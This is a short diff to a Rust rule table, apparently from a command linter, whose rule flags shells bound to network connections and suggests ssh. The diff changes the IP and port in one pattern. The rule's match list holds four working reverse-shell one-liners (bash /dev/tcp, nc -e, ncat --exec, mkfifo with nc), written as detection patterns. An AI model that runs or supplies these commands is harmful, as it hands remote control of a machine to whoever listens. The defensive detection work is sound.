@@ -18,7 +18,7 @@ pub(super) static RULES: &[Rule] = &[
         message: "ties a shell to a network connection: whoever is at the other end commands this machine",
         suggestion: "use ssh",
         matches: &[
-            "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
+            "bash -i >& /dev/tcp/10.9.8.7/99 0>&1",
             "nc -e /bin/sh 10.0.0.1 4242",
             "ncat 10.0.0.1 1 --exec /bin/bash",
             "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f",
